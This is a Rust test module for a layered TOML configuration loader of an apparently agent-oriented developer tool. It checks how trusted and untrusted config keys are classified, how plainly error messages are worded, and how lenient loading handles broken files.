        assert!(e.contains("`ladder.L1` must be a list"), "{e}");
        // Unknown keys and the keys that run commands stay errors, trusted or not.
        std::fs::write(p.config(), "[ladder]\nL9 = []\n").unwrap();
        assert!(load(&p, &env).is_err());
        std::fs::write(p.config(), "[notify]\ncommand = [\"x\"]\n").unwrap();
        assert!(
            load(&p, &env)
                .unwrap_err()
                .to_string()
                .contains("runs commands")
        );
    }

    #[test]
    fn the_ignored_keys_are_said_once_per_content() {
        let (_t, p, env) = setup();
        std::fs::create_dir_all(p.logs()).unwrap();
        std::fs::write(p.config(), "[ladder]\nL1 = [\"wip_commit\"]\n").unwrap();
        let (cfg, first) = load_noting(&p, &env);
        assert_eq!(cfg.ladder.l1, ["handoff"]);
        match first {
            Some(Outcome::ConfigIgnored { keys, why, .. }) => {
                assert_eq!(keys, ["ladder.L1"]);
                assert!(why.contains("not trusted"), "{why}");
            }
            other => panic!("{other:?}"),
        }
        assert_eq!(load_noting(&p, &env).1, None, "said once");
        std::fs::write(p.config(), "[ladder]\nL2 = [\"wip_commit\"]\n").unwrap();
        assert!(load_noting(&p, &env).1.is_some(), "new content: said again");
        assert_eq!(load_noting(&p, &env).1, None);
        // Without a state folder to keep the mark in, it is not said (else every
        // status-line tick would say it).
        let mut no_state = env.clone();
        no_state.home = None;
        std::fs::write(p.config(), "[ladder]\nL3 = [\"wip_commit\"]\n").unwrap();
        assert_eq!(load_noting(&p, &no_state).1, None);
    }

    #[test]
    fn every_key_has_a_side_and_only_known_keys_do() {
        let mut known: Vec<String> = KEYS
            .iter()
            .flat_map(|(s, keys)| keys.iter().map(move |k| format!("{s}.{k}")))
            .chain(HOOK_LISTS.iter().map(|l| (*l).to_owned()))
            .collect();
        // And every leaf of the config structs (KEYS is checked against them below).
        let v = toml::Value::try_from(Config::default()).unwrap();
        let mut leaves_of_structs = Vec::new();
        // (An empty list of hook tables is a leaf of its own.)
        leaves("", &v, &mut leaves_of_structs);
        leaves_of_structs.sort();
        let mut sided: Vec<String> = SIDES.iter().map(|k| k.key.to_owned()).collect();
        known.sort();
        sided.sort();
        assert_eq!(sided, known, "SIDES and KEYS name the same keys");
        assert_eq!(sided, leaves_of_structs, "every struct field has a side");
        sided.dedup();
        assert_eq!(sided.len(), SIDES.len(), "each key once");
        // What runs a command is never merely "acting": it stays yours only.
        for k in ["notify.command", "on_threshold", "on_session_start"] {
            assert_eq!(side_of(k), Some(Side::YoursOnly), "{k}");
        }
        // The list: these act.
        for k in [
            "ladder.L1",
            "ladder.protected_branches",
            "notify.mode",
            "notify.timeout_secs",
            "notify.stdin",
            "notify.pane_capture_lines",
            "notify.events",
            "relay.threshold",
            "handoffs.auto_prune",
            "attention.stale_after",
        ] {
            assert_eq!(side_of(k), Some(Side::Acts), "{k}");
        }
        assert!(SIDES.iter().all(|k| !k.what.is_empty()));
    }

    #[test]
    fn docs_security_md_names_every_key_that_acts_or_runs_a_command() {
        let doc = include_str!("../docs/security.md");
        for k in SIDES.iter().filter(|k| k.side != Side::Shows) {
            let name = if HOOK_LISTS.contains(&k.key) {
                format!("`[[{}]]`", k.key)
            } else {
                format!("`{}`", k.key)
            };
            assert!(doc.contains(&name), "docs/security.md does not name {name}");
        }
        // And names no key as acting that does not.
        for k in SIDES.iter().filter(|k| k.side == Side::Shows) {
            assert!(
                !doc.contains(&format!("| `{}`", k.key)),
                "docs/security.md lists {} among the keys that act",
                k.key
            );
        }
    }

    #[test]
    fn keys_table_matches_the_config_structs() {
        let v = toml::Value::try_from(Config::default()).unwrap();
        let t = v.as_table().unwrap();
        assert_eq!(t.len(), KEYS.len() + HOOK_LISTS.len());
        for list in HOOK_LISTS {
            assert!(t[list].as_array().unwrap().is_empty(), "{list}");
        }
        for (section, keys) in KEYS {
            let inner = t[section].as_table().unwrap();
            let mut want: Vec<&str> = keys.to_vec();
            let mut got: Vec<&str> = inner.keys().map(String::as_str).collect();
            want.sort_unstable();
            got.sort_unstable();
            assert_eq!(got, want, "[{section}]");
        }
    }

    fn error_for(text: &str) -> String {
        let (_t, p, env) = setup();
        std::fs::write(p.config(), text).unwrap();
        load(&p, &env).unwrap_err().to_string()
    }

    #[test]
    fn errors_speak_plainly() {
        let e = error_for("[context]\nwran = 60\n");
        assert!(
            e.ends_with(
                "unknown key `context.wran` (valid keys in [context]: warn, critical, emergency, handoff_threshold)"
            ),
            "{e}"
        );
        assert_eq!(e.matches("wran").count(), 1, "named once: {e}");
        let e = error_for("[context]\nwran = 60\ncritcal = 1\n");
        assert!(
            e.contains("context.wran") && e.contains("context.critcal"),
            "{e}"
        );
        for (text, want) in [
            (
                "[context]\nwarn = \"high\"\n",
                "`context.warn` must be a number, found the text \"high\"",
            ),
            (
                "[statusline]\nbar_width = 1.5\n",
                "`statusline.bar_width` must be a whole number from 0 to 65535, found the number 1.5",
            ),
            (
                "[statusline]\nbar_width = -1\n",
                "`statusline.bar_width` must be a whole number from 0 to 65535, found the number -1",
            ),
            (
                "[git]\ncache_ttl_secs = \"x\"\n",
                "`git.cache_ttl_secs` must be a whole number (0 or more), found the text \"x\"",
            ),
            (
                "[hooks]\ncompaction_reread = 1\n",
                "`hooks.compaction_reread` must be true or false, found the number 1",
            ),
            (
                "[statusline]\nsegments = \"git\"\n",
                "`statusline.segments` must be a list, found the text \"git\"",
            ),
            (
                "context = 5\n",
                "`context` must be a table like [context], found the number 5",
            ),
            (
                "colour = 1\n",
                "unknown key `colour` (valid sections: [context], [statusline], [git], [hooks], [learn], [resume], [attention], [handoffs], [notify], [ladder], [relay], [[on_threshold]], [[on_session_start]], [agents.<name>.<section>])",
            ),
        ] {
            let e = error_for(text);
            assert!(e.ends_with(want), "{text}: {e}");
            for rust in ["f64", "u16", "u64", "struct", "sequence", "boolean"] {
                assert!(!e.contains(rust), "{text}: {e}");
            }
        }
        // Only the relation that is broken is stated.
        let e = error_for("[context]\nwarn = 90\n");
        assert!(
            e.ends_with("context levels must rise: warn (90) must be below critical (85)"),
            "{e}"
        );
        let e = error_for("[context]\ncritical = 99\n");
        assert!(
            e.ends_with("context levels must rise: critical (99) must be below emergency (95)"),
            "{e}"
        );
    }

    #[test]
    fn optional_segments_are_accepted_and_unknown_ones_named() {
        let (_t, p, env) = setup();
        std::fs::write(
            p.config(),
            "[statusline]\nsegments = [\"context\", \"cost\", \"duration\", \"limits\", \"lines\"]\n",
        )
        .unwrap();
        let l = load(&p, &env).unwrap();
        assert_eq!(
            l.config.statusline.segments,
            ["context", "cost", "duration", "limits", "lines"]
        );
        let e = error_for("[statusline]\nsegments = [\"context\", \"price\"]\n");
        assert!(
            e.ends_with(
                "`statusline.segments` has unknown segment \"price\" (known: model, project, git, \
                 context, task, signals, learn, cost, duration, limits, lines, elsewhere)"
            ),
            "{e}"
        );
        // The segments beside a wrapped status line are checked the same way, and
        // so is where they go.
        let e = error_for("[statusline]\nwrap_segments = [\"context\", \"price\"]\n");
        assert!(
            e.contains("`statusline.wrap_segments` has unknown segment \"price\""),
            "{e}"
        );
        let e = error_for("[statusline]\nwrap_position = \"left\"\n");
        assert!(
            e.ends_with("`statusline.wrap_position` must be \"after\", \"before\" or \"line\", found \"left\""),
            "{e}"
        );
        std::fs::write(
            p.config(),
            "[statusline]\nwrap_position = \"line\"\nwrap_segments = [\"context\"]\n",
        )
        .unwrap();
        let l = load(&p, &env).unwrap();
        assert_eq!(l.config.statusline.wrap_position, "line");
        assert_eq!(l.config.statusline.wrap_segments, ["context"]);
        assert_eq!(
            Config::default().statusline.wrap_segments,
            DEFAULT_WRAP_SEGMENTS
        );
        // The optional ones are off by default.
        for name in ["cost", "duration", "limits", "lines", "elsewhere"] {
            assert!(SEGMENTS.contains(&name) && !DEFAULT_SEGMENTS.contains(&name));
        }
    }

    #[test]
    fn lenient_load_skips_only_the_broken_file() {
        let (t, p, env) = setup();
        let user = t.path().join("xdg/forge/config.toml");
        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
        std::fs::write(&user, "[context]\nwarn = 60\n").unwrap();
        std::fs::write(p.config(), "[context]\nwran = 1\n").unwrap();
        let (l, errors) = load_lenient(&p, &env);
        assert_eq!(errors.len(), 1);
        assert_eq!(errors[0].path(), p.config());
        assert_eq!(l.config.context.warn, 60.0);
        assert_eq!(l.sources["context.warn"], Source::User(user.clone()));
        assert_eq!(
            l.files,
            vec![
                (Source::User(user.clone()), true),
                (Source::Project(p.config()), false)
            ]
        );
        // A level order broken by the project file: that file is left out.
        std::fs::write(p.config(), "[context]\ncritical = 55\n").unwrap();
        let (l, errors) = load_lenient(&p, &env);
        assert_eq!(errors.len(), 1);
        assert_eq!(l.config.context.warn, 60.0);
        assert_eq!(l.config.context.critical, 85.0);
        // Both broken: the defaults alone.
        std::fs::write(&user, "nonsense").unwrap();
        let (l, errors) = load_lenient(&p, &env);
        assert_eq!(errors.len(), 2);
        assert_eq!(l.config, Config::default());
    }

    #[test]
    fn unknown_key_and_wrong_type_name_key_and_file() {
        let (_t, p, env) = setup();
        std::fs::write(p.config(), "[context]\nwarm = 60\n").unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(
            e.contains("config.toml") && e.contains("context.warm"),
            "{e}"
        );
        std::fs::write(p.config(), "[context]\nwarn = \"high\"\n").unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains("config.toml") && e.contains("warn"), "{e}");
        std::fs::write(p.config(), "[colour]\nx = 1\n").unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains("unknown key `colour`"), "{e}");
        std::fs::write(p.config(), "[context]\nwarn = 90\n").unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains("must rise") && e.contains("config.toml"), "{e}");
        assert_eq!(load_or_default(&p, &env), Config::default());
    }
}
